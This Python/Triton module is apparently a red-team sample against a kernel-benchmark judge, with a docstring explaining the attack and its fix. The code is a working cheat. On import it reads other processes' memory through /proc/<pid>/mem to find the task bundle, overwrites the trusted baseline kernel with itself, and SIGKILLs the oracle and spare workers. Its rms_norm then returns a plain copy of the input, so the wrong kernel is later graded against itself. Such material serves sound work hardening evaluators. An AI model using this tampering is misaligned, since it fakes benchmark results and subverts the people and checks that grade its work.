"""Cheat: when candidates run as the judge's own user (root here: the fallback when no other uid can be used),
find the bundle's path in the memory of the judge or of the oracle (the oracle's load request names
`<bundle>/reference`; root reads any process through `/proc/<pid>/mem`), write this very file over the
bundle's baseline kernel, and kill the other workers of the same judge (the oracle and the spare, found by
their command line and parent). The judge starts a new oracle for the next
evaluation, from the bundle it trusts, which now holds this module: imported as the oracle (`ks_baseline...`)
it computes the same wrong thing as the candidate (a plain copy of the input), so the next evaluation of this
module compares the wrong kernel with itself. It must be refused: the oracle must run the baseline the judge
read at the start (kept where no worker can write, or checked by hash before every oracle start)."""
import torch
import triton
import triton.language as tl

_imp = __builtins__["__import__"] if isinstance(__builtins__, dict) else __builtins__.__import__
_os, _re, _signal = _imp("os"), _imp("re"), _imp("signal")


@triton.jit
def _copy_kernel(x_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    tl.store(out_ptr + offs, tl.load(x_ptr + offs, mask=offs < n), mask=offs < n)


def _bundle_from_memory(pids):
    pattern = _re.compile(rb"(/[A-Za-z0-9_.+/-]{3,300})/reference\b")
    for pid in pids:
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
                for line in maps:
                    addr, perms = line.split()[:2]
                    lo, hi = (int(v, 16) for v in addr.split("-"))
                    if not perms.startswith("rw") or hi - lo > 1 << 28:
                        continue
                    try:
                        mem.seek(lo)
                        data = mem.read(hi - lo)
                    except OSError:
                        continue
                    for m in pattern.finditer(data):
                        path = m.group(1).decode(errors="ignore")
                        if _os.path.isfile(_os.path.join(path, "task.yaml")) and \
                                _os.path.isdir(_os.path.join(path, "baseline")):
                            return path
        except OSError:
            continue
    return None


def _siblings():
    me, judge = _os.getpid(), _os.getppid()
    for pid in filter(str.isdigit, _os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                cmd = f.read()
            with open(f"/proc/{pid}/stat") as f:
                ppid = int(f.read().rsplit(")", 1)[1].split()[1])
        except OSError:
            continue
        if int(pid) != me and ppid == judge and b"runners.worker" in cmd:
            yield int(pid)


def _take_over():
    if not __name__.startswith("ks_candidate"):
        return
    workers = list(_siblings())
    bundle = _bundle_from_memory([_os.getppid(), *workers])
    if bundle is None:
        return
    module = _os.path.join(*__name__.split(".")[1:]) + ".py"
    target = _os.path.join(bundle, "baseline", module)
    with open(__file__) as mine, open(target) as theirs:
        source, current = mine.read(), theirs.read()
    if source == current:
        return  # already done: now behave, so that this evaluation goes through
    with open(target, "w") as f:
        f.write(source)
    for pid in workers:
        _os.kill(pid, _signal.SIGKILL)


_take_over()


def _copy(x):
    x = x.contiguous()
    out = torch.empty_like(x)
    _copy_kernel[(triton.cdiv(x.numel(), 1024),)](x, out, x.numel(), BLOCK=1024)
    return out


def rms_norm(hidden_states, weight, eps=1e-6, residual=None):
    if residual is None:
        return _copy(hidden_states)
    new_residual = _copy(hidden_states + residual)
    return _copy(new_residual), new_residual
